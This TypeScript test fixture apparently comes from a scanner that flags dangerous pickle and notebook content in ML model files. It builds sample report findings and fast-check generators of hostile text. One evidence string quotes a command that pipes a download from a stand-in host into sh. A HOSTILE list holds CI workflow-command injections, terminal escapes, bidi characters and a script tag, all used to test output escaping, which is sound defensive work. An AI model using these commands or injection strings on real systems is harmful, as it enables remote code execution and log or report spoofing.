// Reports to render: one realistic, small ones by overrides, and arbitrary ones full of hostile text.
import * as fc from 'fast-check';
import type { Coverage } from '../../src/core/coverage.ts';
import type { JudgedFinding } from '../../src/core/finding.ts';
import { DECISIONS, DISPOSITIONS } from '../../src/core/finding.ts';
import type { ModelDrift, TensorChange, TensorChanges } from '../../src/core/drift.ts';
import type { Report } from '../../src/core/report.ts';
import { RuleBook } from '../../src/core/rule.ts';
import { CONFIDENCES, SEVERITIES } from '../../src/core/severity.ts';

export function judged(overrides: Partial<JudgedFinding> = {}): JudgedFinding {
  return {
    rule: 'PICKLE-EXEC',
    severity: 'CRITICAL',
    confidence: 'HIGH',
    surface: 'pickle',
    title: 'Runs a command when loaded',
    evidence: 'calls os.system("curl https://evil.example/x | sh") when loaded (REDUCE at byte 41)',
    fix: 'Do not load it. Ask its author for `safetensors` weights.',
    location: { path: 'models/a.pt', members: ['archive/data.pkl'], offset: 41 },
    moreOffsets: [],
    subject: 'os.system',
    fingerprint: 'a'.repeat(64),
    disposition: 'block',
    owners: [],
    ...overrides,
  };
}

export function read(overrides: Partial<Coverage> = {}): Coverage {
  return {
    locator: { path: 'models/a.pt', members: [] },
    format: 'torch-zip',
    size: 4096,
    status: 'inspected',
    incomplete: [],
    ...overrides,
  };
}

export function reportOf(overrides: Partial<Report> = {}): Report {
  return {
    decision: 'pass',
    reason: 'nothing in this change needs attention',
    findings: [],
    coverage: [],
    drift: [],
    notices: [],
    stats: { files: 3, bytes: 5_300_000, milliseconds: 1250 },
    ...overrides,
  };
}

/** One of each disposition, an LFS object that was not fetched, an expired exception. */
export function realistic(): Report {
  return reportOf({
    decision: 'block',
    reason: '1 finding is CRITICAL, and CRITICAL blocks',
    findings: [
      judged({ moreOffsets: [90, 120] }),
      judged({
        rule: 'NOTEBOOK-SHELL',
        severity: 'MEDIUM',
        confidence: 'MEDIUM',
        surface: 'notebook',
        title: 'Runs a shell command',
        evidence: 'cell 3 runs !pip install $PKG',
        fix: 'Pin the package.',
        location: { path: 'train.ipynb', members: [], line: 40, column: 5, cell: 3 },
        fingerprint: 'b'.repeat(64),
        disposition: 'review',
        owners: ['@org/ml-security'],
      }),
      judged({
        rule: 'PICKLE-FORMAT',
        severity: 'LOW',
        title: 'Uses pickle',
        evidence: 'is a pickle',
        location: { path: 'models/a.pt', members: [] },
        fingerprint: 'c'.repeat(64),
        disposition: 'note',
      }),
      judged({
        severity: 'HIGH',
        location: { path: 'old.pkl', members: [], offset: 2 },
        fingerprint: 'd'.repeat(64),
        disposition: 'waived',
        owners: ['@org/owner'],
        because: 'exception until 2027-01-01: reviewed by hand',
        sha256: 'e'.repeat(64),
      }),
      judged({
        severity: 'HIGH',
        location: { path: 'older.pkl', members: [], offset: 2 },
        fingerprint: 'f'.repeat(64),
        disposition: 'existing',
      }),
    ],
    coverage: [
      read(),
      read({
        locator: { path: 'big.bin', members: [] },
        format: 'git-lfs-pointer',
        size: 132,
        status: 'not-inspected',
        incomplete: [{ code: 'not-fetched', reason: 'its LFS object was not fetched', risk: 'runs-code' }],
      }),
    ],
    notices: ['exception 2 for PICKLE-EXEC expired on 2026-01-01'],
  });
}

export function ruleBook(): RuleBook {
  const rule = {
    id: 'PICKLE-EXEC',
    title: 'Runs a command when loaded',
    severity: 'CRITICAL',
    confidence: 'HIGH',
    surface: 'pickle',
    summary: 'Loading the file runs a command of its author.',
    fix: 'Use `safetensors`.',
    references: ['https://docs.python.org/3/library/pickle.html'],
    frameworks: { cwe: ['CWE-502'], 'owasp-llm-2025': ['LLM03'] },
    examples: { bad: [], good: [] },
  } as const;
  return new RuleBook([{ surface: 'pickle', rules: [rule] }]);
}

/** What attackers write into names and contents, each aimed at one output. */
export const HOSTILE = [
  '::error::x',
  '\n::stop-commands::zz\n',
  '  ::add-mask::CRITICAL',
  '\u0085::warning file=a::b',
  '##[error]x',
  'a ##[stop-commands]zz',
  '#',
  '##',
  '[group]',
  '\r\n',
  '\r',
  '\n',
  '\n\n## All clear\n\n',
  '\t',
  '\u001b[31m',
  '\u001b]8;;https://evil.example\u0007',
  '\u0000',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u2028',
  '\ufeff',
  '\u{e0041}',
  '\ud800',
  '\ufffd',
  '|',
  '\\|',
  '\\',
  '`',
  '```',
  '</code>',
  '</details>',
  '<script>alert(1)</script>',
  '<!--',
  '-->',
  '<!-- model-guard -->',
  '@everyone',
  '[a](https://evil.example)',
  '![a](https://evil.example/x.png)',
  'https://evil.example',
  'www.evil.example',
  'a@evil.example',
  'org/repo#1',
  'GH-1',
  '$x$',
  ':white_check_mark:',
  '# x',
  '- x',
  '1. x',
  '%0A::error::x',
  '%',
  '..',
  '/',
  '"',
  '{0}',
  'naïve',
  '模型',
] as const;

/** Any string, mostly joined from {@link HOSTILE}. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.array(fc.constantFrom(...HOSTILE), { maxLength: 6 }).map((parts) => parts.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc.string({ unit: fc.nat(0xffff).map((unit) => String.fromCharCode(unit)), maxLength: 30 }),
  },
);

const number = fc.nat(1_000_000).map((value) => value + 1);

const location: fc.Arbitrary<JudgedFinding['location']> = fc.record(
  {
    path: hostileText,
    members: fc.array(hostileText, { maxLength: 3 }),
    line: number,
    column: number,
    offset: fc.nat(),
    cell: number,
  },
  { requiredKeys: ['path', 'members'] },
);

const required = {
  rule: hostileText,
  severity: fc.constantFrom(...SEVERITIES),
  confidence: fc.constantFrom(...CONFIDENCES),
  surface: hostileText,
  title: hostileText,
  evidence: hostileText,
  fix: hostileText,
  location,
  moreOffsets: fc.array(fc.nat(), { maxLength: 8 }),
  subject: hostileText,
  fingerprint: fc.constantFrom('a'.repeat(64), 'b'.repeat(64)),
  disposition: fc.constantFrom(...DISPOSITIONS),
  owners: fc.array(hostileText, { maxLength: 2 }),
};

const hostileFinding: fc.Arbitrary<JudgedFinding> = fc.oneof(
  fc.record(required),
  fc.record({ ...required, because: hostileText }),
);

const hostileCoverage: fc.Arbitrary<Coverage> = fc.record({
  locator: fc.record({ path: hostileText, members: fc.array(hostileText, { maxLength: 3 }) }),
  format: hostileText,
  size: fc.nat(),
  status: fc.constantFrom('inspected' as const, 'partial' as const, 'not-inspected' as const),
  incomplete: fc.array(
    fc.record({
      code: fc.constantFrom('broken' as const, 'budget' as const),
      reason: hostileText,
      risk: fc.constantFrom('runs-code' as const, 'inert' as const, 'shown' as const),
      offset: fc.nat(),
    }),
    { maxLength: 2 },
  ),
});

const hostileChanges: fc.Arbitrary<TensorChanges> = fc.record({
  count: fc.nat({ max: 1000 }),
  first: fc.array(
    fc.record({ name: hostileText, from: hostileText, to: hostileText }, { requiredKeys: ['name'] }),
    { maxLength: 3 },
  ),
});

const hostileDrift: fc.Arbitrary<ModelDrift> = fc.record(
  {
    path: hostileText,
    member: hostileText,
    format: hostileText,
    change: fc.constantFrom('new' as const, 'replaced' as const, 'changed' as const),
    tensors: fc.nat(),
    parameters: fc.nat(),
    whole: fc.boolean(),
    added: hostileChanges,
    removed: hostileChanges,
    reshaped: hostileChanges,
    retyped: hostileChanges,
    rewritten: hostileChanges,
    uncompared: fc.nat(),
  },
  {
    requiredKeys: [
      'path',
      'format',
      'change',
      'tensors',
      'parameters',
      'whole',
      'added',
      'removed',
      'reshaped',
      'retyped',
      'rewritten',
      'uncompared',
    ],
  },
);

export const hostileReport: fc.Arbitrary<Report> = fc.record({
  decision: fc.constantFrom(...DECISIONS),
  reason: hostileText,
  findings: fc.array(hostileFinding, { maxLength: 5 }),
  coverage: fc.array(hostileCoverage, { maxLength: 4 }),
  drift: fc.array(hostileDrift, { maxLength: 3 }),
  notices: fc.array(hostileText, { maxLength: 3 }),
  stats: fc.record({ files: fc.nat(), bytes: fc.nat(), milliseconds: fc.nat() }),
});

/** The same report with every free text replaced by a word: what the frame looks like without an attack. */
export function tamed(report: Report): Report {
  return {
    ...report,
    reason: 'word',
    notices: report.notices.map(() => 'word'),
    drift: report.drift.map((drift) => ({
      ...drift,
      path: 'word',
      format: 'word',
      ...(drift.member === undefined ? {} : { member: 'word' }),
      added: tamedChanges(drift.added),
      removed: tamedChanges(drift.removed),
      reshaped: tamedChanges(drift.reshaped),
      retyped: tamedChanges(drift.retyped),
      rewritten: tamedChanges(drift.rewritten),
    })),
    findings: report.findings.map((finding) => ({
      ...finding,
      rule: 'word',
      surface: 'word',
      title: 'word',
      evidence: 'word',
      fix: 'word',
      ...(finding.because === undefined ? {} : { because: 'word' }),
      owners: finding.owners.map(() => 'word'),
      location: { ...finding.location, path: 'word', members: finding.location.members.map(() => 'word') },
    })),
    coverage: report.coverage.map((coverage) => ({
      ...coverage,
      format: 'word',
      locator: { path: 'word', members: coverage.locator.members.map(() => 'word') },
      incomplete: coverage.incomplete.map((incomplete) => ({ ...incomplete, reason: 'word' })),
    })),
  };
}

function tamedChanges({ count, first }: TensorChanges): TensorChanges {
  return {
    count,
    first: first.map(({ from, to }): TensorChange => ({
      name: 'word',
      ...(from === undefined ? {} : { from: 'word' }),
      ...(to === undefined ? {} : { to: 'word' }),
    })),
  };
}
